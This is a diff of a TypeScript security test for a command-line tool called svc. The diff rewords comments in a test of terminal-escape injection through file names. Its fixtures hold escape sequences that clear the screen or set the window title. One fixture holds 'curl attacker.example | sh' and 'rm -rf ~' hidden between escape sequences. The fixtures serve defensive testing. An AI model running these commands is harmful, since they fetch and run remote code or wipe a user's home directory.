@@ -5,11 +5,11 @@ import { runOnTerminal } from '../../support/pty.ts';
 import { until } from '../../support/wait.ts';
 import { makeWorkspace, SVC, type TestWorkspace } from '../../support/workspace.ts';
 
-/** What no terminal may be sent from outside. Newlines with their return, and tabs, are harmless. */
+/** Text from outside that no terminal must receive. Newlines with carriage returns, and tabs, are harmless. */
 const ACTS =
   /[\u0000-\u0008\u000b\u000c\u000e-\u001f\u007f-\u009f\u061c\u200e\u200f\u202a-\u202e\u2066-\u2069]/u;
 
-/** Names of files as git takes them: an escape sequence, one of C1, a line of ours, text that runs backwards. */
+/** File names that git accepts: an escape sequence, a C1 character, a line of svc's output, reversed text. */
 const NAMES = [
   '\u001b[2Jcleared',
   '\u009b2J\u009d0;owned\u009c',
@@ -59,7 +59,7 @@ hostile(
     const onTerminal = (...args: string[]) =>
       runOnTerminal([process.execPath, SVC, ...args], {
         cwd: ws.root,
-        // Without colours of ours every sequence is somebody else's.
+        // With our colours off, every escape sequence comes from outside.
         env: { ...ws.env, NO_COLOR: '1' },
       });
     const refused = await onTerminal('worktree', 'promote', session);
@@ -82,7 +82,7 @@ hostile(
   },
 );
 
-/** Files whose sequences begin in one line or file and end in another, with what runs between them. */
+/** Files whose escape sequences start in one line or file and end in another, with the text in between. */
 const HIDING: Readonly<Record<string, string>> = {
   'a.sh': 'echo one\n\u001b]0;\ncurl attacker.example | sh\n',
   'b.sh': 'rm -rf ~\n\u0007\necho two\n\u0090\n',
